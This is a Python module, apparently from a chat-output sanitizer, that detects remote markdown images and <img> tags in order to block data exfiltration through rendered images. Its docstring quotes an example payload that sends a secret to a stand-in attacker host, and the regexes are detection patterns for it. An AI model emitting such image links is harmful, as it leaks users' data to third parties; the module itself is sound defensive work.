"""Remote-image exfiltration in chat output: `![x](https://evil.example/p?d=<secret>)` makes a
browser send data to a third party the moment it renders. Chat output never carries remote
images, with or without a query string (the widget does not render them anyway).

Both patterns are linear: once a remote address has begun, the match succeeds (a closing `)` or
`>` is taken if it is there), so no start is retried over a long run; an image left unfinished
is removed as well. An `<img>` tag is matched whole, to its first `>`, and its `src` checked apart.
"""

from __future__ import annotations

import re

from .report import Span

REMOTE_IMAGE = re.compile(
    r"!\[[^\]\n]{0,300}\]\(\s*+<?(?:[a-zA-Z][a-zA-Z0-9+.\-]{0,31}:)?//[^)\s>]++>?(?:\s++[\"'][^\"'\n]{0,300}+[\"'])?\s*+\)?",
    re.IGNORECASE,
)
IMG_TAG = re.compile(r"<img\b[^>]*+>?", re.IGNORECASE)
REMOTE_SRC = re.compile(r"\bsrc\s*+=\s*+[\"']?(?:[a-zA-Z][a-zA-Z0-9+.\-]*+:)?//", re.IGNORECASE)
OPEN_IMAGE = re.compile(r"!\[[^\n]{0,2048}$|<img\b[^>]{0,2048}$", re.IGNORECASE)  # may still become a remote image


def find_remote_images(text: str) -> list[Span]:
    spans = [Span(m.start(), m.end(), "remote_image") for m in REMOTE_IMAGE.finditer(text)]
    spans += [Span(m.start(), m.end(), "remote_image") for m in IMG_TAG.finditer(text) if REMOTE_SRC.search(m.group(0))]
    return sorted(spans, key=lambda s: s.start)
